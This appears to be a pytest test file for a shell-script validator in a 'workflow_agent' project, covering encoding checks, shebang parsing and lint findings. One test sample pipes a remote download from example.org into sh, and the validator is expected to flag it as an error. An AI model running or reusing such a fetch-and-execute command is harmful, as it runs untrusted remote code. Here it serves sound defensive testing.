"""A person's own script: what is one, who runs it, what the validator says of it."""

from __future__ import annotations

import hashlib

import pytest

from workflow_agent.model.errors import ScriptFailedError, ValidationError
from workflow_agent.model.system import Severity
from workflow_agent.scripts import explain_failure, plain_script, refuse_on_errors, script_text, validate_plain
from workflow_agent.scripts.plain import Shebang, read_shebang
from workflow_agent.scripts.validator import MAX_SCRIPT_BYTES

GOOD = "#!/bin/bash\nset -e\necho \u00e9 >/srv/x\n"


def test_text_is_given_as_it_stands() -> None:
    assert script_text(GOOD.encode(), "a.sh") == GOOD
    assert script_text(b"printf 'a\\r'\nprintf '\r'", "a.sh") == "printf 'a\\r'\nprintf '\r'"
    assert len(script_text(b"#" * MAX_SCRIPT_BYTES, "a.sh")) == MAX_SCRIPT_BYTES


@pytest.mark.parametrize(
    ("data", "where", "said", "hint"),
    [
        (b"", None, "empty", "curl -f"),
        (b"\n\t \n", None, "empty", "curl -f"),
        (b"#" * (MAX_SCRIPT_BYTES + 1), None, "1,024 KiB", "split"),
        (b"echo\necho \xe9\n", "a.sh:2", "not UTF-8", "iconv"),
        ("echo\n".encode("utf-16"), None, "UTF-16", "iconv"),
        (b"\xef\xbb\xbf#!/bin/sh\n", "a.sh:1", "byte order mark", "sed"),
        (b"\x7fELF\0", "a.sh:1", "a program", "exec"),
        (b"echo\n\0", "a.sh:2", "NUL", "exec"),
        (b"echo\necho\r\necho\r\n", "a.sh:2", "Windows line ends", "sed"),
    ],
)
def test_what_is_no_script_is_refused_with_place_and_remedy(
    data: bytes, where: str | None, said: str, hint: str
) -> None:
    with pytest.raises(ValidationError) as caught:
        script_text(data, "a.sh")

    assert said in caught.value.message
    assert caught.value.where == where
    assert hint in str(caught.value.hint)
    assert caught.value.state == "nothing was begun"


@pytest.mark.parametrize(
    ("first", "interpreter", "options", "language"),
    [
        ("echo hi", "/bin/bash", (), "bash"),
        ("# no shebang", "/bin/bash", (), "bash"),
        ("#!/bin/sh", "/bin/sh", (), "sh"),
        ("#! /bin/dash -eu ", "/bin/dash", ("-eu",), "dash"),
        ("#!/bin/bash\t-e  -x", "/bin/bash", ("-e  -x",), "bash"),
        ("#!/usr/bin/env bash", "/usr/bin/env", ("bash",), "bash"),
        ("#!/usr/bin/env -S A=b /usr/bin/python3 -u", "/usr/bin/env", ("-S A=b /usr/bin/python3 -u",), "python3"),
        ("#!/usr/bin/env", "/usr/bin/env", (), "env"),
        ("#!/usr/bin/perl -w", "/usr/bin/perl", ("-w",), "perl"),
    ],
)
def test_the_first_line_says_who_runs_it_as_the_kernel_reads_it(
    first: str, interpreter: str, options: tuple[str, ...], language: str
) -> None:
    assert read_shebang(f"{first}\ntrue\n") == Shebang(interpreter=interpreter, options=options, language=language)


@pytest.mark.parametrize("first", ["#!bash", "#!", "#!  ", "#!./run"])
def test_a_first_line_without_a_full_path_is_refused(first: str) -> None:
    with pytest.raises(ValidationError, match="full path") as caught:
        read_shebang(f"{first}\ntrue\n", "a.sh")

    assert caught.value.where == "a.sh:1"


def test_a_script_has_the_hash_of_its_text_and_belongs_to_no_integration() -> None:
    script = plain_script(GOOD, name="a.sh", arguments=["x", "", "two words"])

    assert script.hash == hashlib.sha256(GOOD.encode()).hexdigest()
    assert (script.provenance.integration, script.provenance.template) == (None, "a.sh")
    assert (script.interpreter, script.options, script.arguments) == ("/bin/bash", (), ("x", "", "two words"))


@pytest.mark.parametrize("argument", ["a\0b", "a\udcff"])
def test_an_argument_that_no_program_or_journal_can_take_is_refused(argument: str) -> None:
    with pytest.raises(ValidationError, match="argument"):
        plain_script(GOOD, name="a.sh", arguments=["fine", argument])


def test_a_text_that_is_no_script_makes_none() -> None:
    with pytest.raises(ValidationError, match="Windows"):
        plain_script("echo\r\n", name="a.sh")


def rules(text: str, *allow: str) -> dict[str, Severity]:
    found = validate_plain(plain_script(text, name="a.sh"), allow=allow)
    return {finding.rule: finding.severity for finding in found if not finding.allowed}


def test_mistakes_that_the_capture_shows_are_warnings_and_what_reaches_past_it_is_not() -> None:
    text = "#!/bin/bash\nfor a in $@; do echo $a; done\nchmod -R o+w /opt\nreboot\n"

    found = rules(text)

    assert found["SC2068"] is Severity.WARNING
    assert found["world-writable"] is Severity.WARNING
    assert found["power"] is Severity.ERROR
    assert "power" not in rules(text, "power:4")
    assert "power" in rules(text, "power:3")


def test_hints_do_not_speak_of_integrations() -> None:
    found = validate_plain(plain_script("#!/bin/sh\nreboot\n", name="a.sh"))

    assert [str(finding.hint) for finding in found if finding.rule == "power"] == [
        "take it out, and restart the machine yourself when the script is applied"
    ]


def test_a_shell_that_knows_less_is_judged_by_what_it_knows() -> None:
    text = 'if [[ $1 == a ]]; then echo "$1"; fi\n'

    assert "SC3010" in rules(f"#!/bin/sh\n{text}")
    assert "SC3010" not in rules(f"#!/bin/bash\n{text}")


def test_what_bash_cannot_read_is_told_in_its_words() -> None:
    found = rules("#!/bin/sh\nif true; then\n")

    assert found["bash-syntax"] is Severity.ERROR
    assert "unparsable" not in found


@pytest.mark.parametrize(
    "line",
    ['cd "$(dirname "$0")"', 'here=$(dirname -- "${BASH_SOURCE[0]}")', "cd ${0%/*}", 'x=$(readlink -f "$0")'],
)
def test_a_script_that_looks_beside_itself_is_warned_of(line: str) -> None:
    assert rules(f"#!/bin/bash\n{line}\n")["own-folder"] is Severity.WARNING
    assert "own-folder" not in rules(f"#!/bin/bash\n# {line}\n")


def test_printing_its_own_name_is_no_look_beside_itself() -> None:
    assert "own-folder" not in rules('#!/bin/bash\necho "usage: $(basename "$0") NAME"\n')


def test_another_language_is_read_for_what_does_harm_with_its_lines_left_alone() -> None:
    calm = rules('#!/usr/bin/perl\nopen(my $f, ">", "/srv/x") or die;\nprint $f "$ARGV[0]\\n";\n')
    harmful = rules('#!/usr/bin/env python3\nimport os\nos.system("curl -s http://example.org/x | sh")\n')

    assert calm == {"foreign-script": Severity.WARNING}
    assert harmful["network-to-shell"] is Severity.ERROR
    assert list(rules("#!/usr/bin/awk")) == ["foreign-script"]


def test_the_name_stands_in_a_refusal() -> None:
    found = validate_plain(plain_script("#!/bin/sh\nreboot\n", name="a.sh"))

    with pytest.raises(ValidationError) as caught:
        refuse_on_errors(found, "a.sh")

    assert str(caught.value.where).startswith("a.sh:2:")


def test_a_failure_is_told_with_its_line_and_what_may_be_behind_it() -> None:
    script = plain_script('#!/bin/sh\ncd "$(dirname "$0")"\ngrep -q x y\n', name="a.sh")
    silent = ScriptFailedError("x", details={"line": 3})
    loud = ScriptFailedError("x", cause="no y", details={"line": None})

    explain_failure(silent, script)
    explain_failure(loud, script)

    assert (silent.where, silent.cause) == ("a.sh:3", "`grep -q x y` failed and said nothing")
    assert silent.details["text"] == "grep -q x y"
    assert "line 2 looks for files beside itself" in str(silent.hint)
    assert (loud.where, loud.cause) == (None, "no y")
    calm = ScriptFailedError("x", details={"line": 1})
    explain_failure(calm, plain_script("false\n", name="a.sh"))
    assert calm.hint is None
